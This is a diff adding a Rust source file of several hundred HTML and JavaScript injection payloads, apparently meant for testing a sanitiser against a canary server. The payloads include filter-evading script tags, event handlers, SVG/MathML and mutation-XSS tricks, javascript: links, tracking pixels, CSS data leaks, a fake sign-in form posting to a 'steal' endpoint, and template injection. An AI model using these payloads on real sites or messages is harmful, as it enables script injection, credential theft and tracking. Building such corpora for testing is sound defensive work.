@@ -1,0 +1,303 @@
+//! Texts that have made other programs run, load or hide something, written after the published families.
+//!
+//! `RUN` stands for a line of script that leaves three traces (a mark in the document, a dialog, a request to the
+//! canary), `CANARY` for the canary's address.
+
+/// What `RUN` stands for. It has no quotes of either kind, so that it fits wherever a payload puts it.
+const RUN: &str = "document.documentElement.dataset.ran=1,new(Image)().src=`CANARY/ran`,alert(1)";
+
+/// Scripts, and what is left of a filter that takes a word away once.
+const SCRIPTS: &[&str] = &[
+    "<script>RUN</script>",
+    "<SCRIPT>RUN</SCRIPT>",
+    "<ScRiPt >RUN</sCrIpT >",
+    "<script/x>RUN</script>",
+    "<script\n>RUN</script\n>",
+    "<script\u{c}>RUN</script>",
+    "<script src=CANARY/a.js></script>",
+    "<script src=//127.0.0.1/a.js></script>",
+    "<script src=\"data:text/javascript,RUN\"></script>",
+    "<script type=module>RUN</script>",
+    "<script type=text/javascript>RUN</script>",
+    "<script>RUN//",
+    "<<script>RUN//<</script>",
+    "<scr<script>ipt>RUN</scr</script>ipt>",
+    "\"><script>RUN</script>",
+    "'><script>RUN</script>",
+    "--><script>RUN</script>",
+    "]]><script>RUN</script>",
+    "</title><script>RUN</script>",
+    "</textarea><script>RUN</script>",
+    "</style><script>RUN</script>",
+    "</noscript><script>RUN</script>",
+    "</template><script>RUN</script>",
+    "</script><script>RUN</script>",
+    "<!--><script>RUN</script>-->",
+    "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
+    "<![CDATA[<script>RUN</script>]]>",
+    "<?xml version=1?><script>RUN</script>",
+    "<!DOCTYPE html><script>RUN</script>",
+    "\u{feff}<script>RUN</script>",
+    "\u{0}<script>RUN</script>",
+    "<scr\u{0}ipt>RUN</scr\u{0}ipt>",
+];
+
+/// Handlers of events that come by themselves, or nearly so.
+const HANDLERS: &[&str] = &[
+    "<img src=x onerror=RUN>",
+    "<img src=x onerror=\"RUN\">",
+    "<img src=x oNeRrOr='RUN'>",
+    "<img/src=x/onerror=RUN>",
+    "<img\nsrc=x\nonerror=RUN>",
+    "<img\u{c}src=x\u{c}onerror=RUN>",
+    "<img src=x onerror\u{a0}=RUN>",
+    "<img src=x onerror\n=\nRUN>",
+    "<image src=x onerror=RUN>",
+    "<img src=\"x\"onerror=RUN>",
+    "<img src=x:x onerror=&#97;lert(1)>",
+    "<img src=x onerror=\\u0061lert(1)>",
+    "<img \"\"\"><script>RUN</script>\">",
+    "<img src=x onload=RUN onerror=RUN>",
+    "\"><img src=x onerror=RUN>",
+    "' onmouseover=RUN x='",
+    "\" onfocus=RUN autofocus tabindex=0 x=\"",
+    "\" style=animation-name:x onanimationstart=RUN \"",
+    "` onerror=RUN `",
+    "<body onload=RUN>",
+    "<body onpageshow=RUN>",
+    "<body onhashchange=RUN><a href=#x>x</a>",
+    "<input onfocus=RUN autofocus>",
+    "<select onfocus=RUN autofocus>",
+    "<textarea onfocus=RUN autofocus>",
+    "<keygen onfocus=RUN autofocus>",
+    "<button onfocus=RUN autofocus>x</button>",
+    "<a onfocus=RUN autofocus tabindex=1 href=#>x</a>",
+    "<div onfocus=RUN autofocus contenteditable>x</div>",
+    "<video src=x onerror=RUN></video>",
+    "<video><source onerror=RUN></video>",
+    "<audio src=x onerror=RUN></audio>",
+    "<video autoplay onloadstart=RUN src=x></video>",
+    "<details open ontoggle=RUN>x</details>",
+    "<details ontoggle=RUN open><summary>x</summary></details>",
+    "<marquee onstart=RUN>x</marquee>",
+    "<marquee loop=1 width=0 onfinish=RUN>x</marquee>",
+    "<object data=x onerror=RUN></object>",
+    "<embed src=x onerror=RUN>",
+    "<iframe onload=RUN></iframe>",
+    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
+    "<link rel=stylesheet href=x onerror=RUN>",
+    "<style onload=RUN></style>",
+    "<script onerror=RUN src=x></script>",
+    "<div onpointerover=RUN style=position:fixed;inset:0>x</div>",
+    "<div popover id=p onbeforetoggle=RUN>x</div><button popovertarget=p autofocus>x</button>",
+    "<div style=transition:all onclick=RUN ontransitionend=RUN>x</div>",
+    "<xss onafterscriptexecute=RUN>x</xss>",
+    "<xss style=content-visibility:auto oncontentvisibilityautostatechange=RUN>x</xss>",
+    "<isindex type=image src=1 onerror=RUN>",
+];
+
+/// SVG and MathML, where other rules hold for what follows.
+const FOREIGN: &[&str] = &[
+    "<svg onload=RUN>",
+    "<svg/onload=RUN>",
+    "<svg><script>RUN</script></svg>",
+    "<svg><script>&#97;lert(1)</script></svg>",
+    "<svg><script href=CANARY/a.js /></svg>",
+    "<svg><script xlink:href=data:,RUN></script></svg>",
+    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
+    "<svg><set onbegin=RUN attributeName=x to=1>",
+    "<svg><animate xlink:href=#x attributeName=href values=javascript:RUN /><a id=x><text y=20>x</text></a></svg>",
+    "<svg><a xlink:href=\"javascript:RUN\"><text y=20>x</text></a></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=RUN /></svg>#x\">",
+    "<svg><image href=x onerror=RUN>",
+    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
+    "<svg><style><img src=x onerror=RUN></style></svg>",
+    "<svg><title><img src=x onerror=RUN></title></svg>",
+    "<svg><desc><script>RUN</script></desc></svg>",
+    "<svg><feImage href=CANARY/f.png /></svg>",
+    "<svg><style>@import 'CANARY/s.css'</style></svg>",
+    "<math><mtext><img src=x onerror=RUN></mtext></math>",
+    "<math href=javascript:RUN>x</math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
+];
+
+/// What means one thing when it is parsed and another when it is parsed again.
+const MUTATIONS: &[&str] = &[
+    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
+    "<noembed><p title=\"</noembed><img src=x onerror=RUN>\">",
+    "<noframes><p title=\"</noframes><img src=x onerror=RUN>\">",
+    "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">",
+    "<plaintext><img src=x onerror=RUN>",
+    "<title><p title=\"</title><img src=x onerror=RUN>\">",
+    "<style><p title=\"</style><img src=x onerror=RUN>\">",
+    "<textarea><p title=\"</textarea><img src=x onerror=RUN>\">",
+    "<iframe><p title=\"</iframe><img src=x onerror=RUN>\"></iframe>",
+    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
+    "<svg><p><style><g title=\"</style><img src=x onerror=RUN>\">",
+    "<math></p><style><!--</style><img src=x onerror=RUN>--></style>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
+    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=RUN>\">",
+    "<table><td><svg><desc><td></desc><img title=\"</svg><img src=x onerror=RUN>\">",
+    "<select><template><img src=x onerror=RUN></template></select>",
+    "<select><iframe><select><img src=x onerror=RUN>",
+    "<template><script>RUN</script></template>",
+    "<div><template shadowrootmode=open><script>RUN</script></template></div>",
+    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
+    "<img alt=\"``onerror=RUN\" src=x>",
+    "<a href=\"x`onmouseover=RUN\">x</a>",
+    "<p id=\"--!><img src=x onerror=RUN>\"><!--<p id=\"",
+    "<!--><img src=x onerror=RUN>-->",
+    "<!-- --!><img src=x onerror=RUN>",
+    "<x/ <img src=x onerror=RUN>>",
+];
+
+/// Links that are not links.
+const LINKS: &[&str] = &[
+    "<a href=javascript:RUN>x</a>",
+    "<a href=\"JaVaScRiPt:RUN\">x</a>",
+    "<a href=\" javascript:RUN\">x</a>",
+    "<a href=\"java\tscript:RUN\">x</a>",
+    "<a href=\"java\nscript:RUN\">x</a>",
+    "<a href=\"&#1;javascript:RUN\">x</a>",
+    "<a href=\"&#106;avascript:RUN\">x</a>",
+    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:RUN\">x</a>",
+    "<a href=\"javascript&colon;RUN\">x</a>",
+    "<a href=\"javascript&NewLine;:RUN\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html,<script>RUN</script>\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<a href=\"view-source:javascript:RUN\">x</a>",
+    "<a href=\"//evil.example/%2e%2e\" target=_top ping=CANARY/ping>x</a>",
+    "<form action=javascript:RUN><input type=submit autofocus></form>",
+    "<form action=CANARY/steal method=post><input name=email><button>Sign in again</button></form>",
+    "<button form=x formaction=javascript:RUN>x</button><form id=x>",
+    "<iframe src=javascript:RUN></iframe>",
+    "<iframe src=CANARY/frame></iframe>",
+    "<object data=javascript:RUN></object>",
+    "<object data=\"data:text/html,<script>RUN</script>\"></object>",
+    "<embed src=javascript:RUN>",
+    "<embed src=CANARY/e.swf>",
+    "<area href=javascript:RUN><map name=x><area href=javascript:RUN shape=default></map>",
+    "<frameset onload=RUN><frame src=javascript:RUN></frameset>",
+    "[x](javascript:RUN)",
+    "![x](CANARY/markdown.png)",
+    "<javascript:RUN>",
+];
+
+/// What turns the page into another, or fetches something.
+const PAGES: &[&str] = &[
+    "<base href=CANARY/>",
+    "<base target=_blank href=\"javascript:/a/-RUN//\">",
+    "<meta http-equiv=refresh content=\"0;url=CANARY/refresh\">",
+    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
+    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">",
+    "<meta http-equiv=set-cookie content=a=b>",
+    "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-",
+    "<link rel=stylesheet href=CANARY/s.css>",
+    "<link rel=import href=CANARY/i.html>",
+    "<link rel=preload as=image href=CANARY/p.png>",
+    "<link rel=prefetch href=CANARY/f><link rel=dns-prefetch href=//canary.example>",
+    "<link rel=modulepreload href=CANARY/m.js>",
+    "<img src=CANARY/pixel.gif width=1 height=1>",
+    "<img srcset=\"CANARY/pixel2.gif 2x\">",
+    "<img src=cid:logo@evil.example>",
+    "<picture><source srcset=CANARY/pixel3.gif></picture>",
+    "<video poster=CANARY/poster.png></video>",
+    "<audio src=CANARY/a.mp3 autoplay></audio>",
+    "<track src=CANARY/t.vtt default>",
+    "<table background=CANARY/bg.png><tr><td background=CANARY/td.png>x</td></tr></table>",
+    "<body background=CANARY/body.png>",
+    "<input type=image src=CANARY/button.png>",
+    "<bgsound src=CANARY/b.mid>",
+    "<portal src=CANARY/portal></portal>",
+    "<applet code=x archive=CANARY/a.jar></applet>",
+];
+
+/// Style sheets, and veils over the link that leads out.
+const STYLES: &[&str] = &[
+    "<style>@import 'CANARY/import.css';</style>",
+    "<style>body{background:url(CANARY/url.png)}</style>",
+    "<style>a[href*=unsubscribe]{display:none!important}</style>",
+    "<style>*{visibility:hidden;font-size:0;color:#fff!important}</style>",
+    "<style>@font-face{font-family:x;src:url(CANARY/font)}*{font-family:x}</style>",
+    "<style>input[value^=a]{background:url(CANARY/leak)}</style>",
+    "<style>x{}</style><style>@media print{*{display:none}}</style>",
+    "<div style=\"position:fixed;inset:0;background:#fff;z-index:9999\">veil</div>",
+    "<div style=\"position:absolute;bottom:0;left:0;width:100%;height:400px;background:white\">veil</div>",
+    "<p style=\"background:url('CANARY/inline.png')\">x</p>",
+    "<p style=\"background-image:\\75rl(CANARY/escaped.png)\">x</p>",
+    "<p style=\"width:expression(RUN)\">x</p>",
+    "<p style=\"-moz-binding:url(CANARY/x.xml#a)\">x</p>",
+    "<p style=\"behavior:url(CANARY/x.htc)\">x</p>",
+    "<a href=https://example.jp style=\"position:fixed;inset:0\">a link over everything</a>",
+    "<font size=7 color=white>big and white</font>",
+    "<center><h1><a href=https://evil.example/unsubscribe>Unsubscribe with one click</a></h1></center>",
+    "</td></tr></table></td></tr></table><!--",
+    "</p></div></article></main></body></html><!--",
+    "<!--",
+    "<textarea>",
+    "<title>",
+    "<plaintext>",
+    "<style>",
+    "<table><tr><td>",
+];
+
+/// Templates, and words other template languages would obey.
+const TEMPLATES: &[&str] = &[
+    "{{email}}",
+    "{{unsubscribe_url}}",
+    "{{{unsubscribe_url}}}",
+    "{{&unsubscribe_url}}",
+    "{{> partials/mail/sender}}",
+    "{{#each sections}}{{title}}{{/each}}",
+    "{{#if page}}x{{/if}}",
+    "{{else}}{{/each}}",
+    "{{!-- x --}}{{lookup this 'constructor'}}",
+    "\\{{x}}",
+    "{{{{raw}}}}{{x}}{{{{/raw}}}}",
+    "{{html summary}}",
+    "{{t \"sign-up-heading\"}}",
+    "{$title}{ $site }",
+    "{{constructor.constructor('RUN')()}}",
+    "{% raw %}{% endraw %}${RUN}#{RUN}<%= RUN %>",
+    "*|EMAIL|*%%email%%[[email]]",
+];
+
+/// The same thing, written so that it must be read twice.
+const ENCODINGS: &[&str] = &[
+    "&lt;script&gt;RUN&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;RUN&#60;/script&#62;",
+    "&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;",
+    "&#0000060script&#0000062RUN",
+    "%3Cscript%3ERUN%3C/script%3E",
+    "%253Cscript%253ERUN%253C/script%253E",
+    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
+    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
+    "＜script＞RUN＜/script＞",
+    "<s\u{200b}cript>RUN</s\u{200b}cript>",
+    "<\u{202e}tpircs>RUN</script>",
+    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
+    "\u{1b}$B<script>RUN</script>\u{1b}(B",
+    "¼script¾RUN¼/script¾",
+    "<scrıpt>RUN</scrıpt>",
+    "<ſcript>RUN</ſcript>",
+];
+
+/// Returns every payload, aimed at `canary`, the address of a server without a slash at its end.
+pub(super) fn all(canary: &str) -> Vec<String> {
+    [SCRIPTS, HANDLERS, FOREIGN, MUTATIONS, LINKS, PAGES, STYLES, TEMPLATES, ENCODINGS]
+        .concat()
+        .into_iter()
+        .map(|payload| payload.replace("RUN", RUN).replace("CANARY", canary))
+        .collect()
+}
+
+#[test]
+fn there_are_enough_of_them_and_no_two_are_the_same() {
+    let all = all("http://127.0.0.1:1");
+    assert!(all.len() >= 150, "{}", all.len());
+    assert_eq!(all.iter().collect::<std::collections::BTreeSet<_>>().len(), all.len());
+}
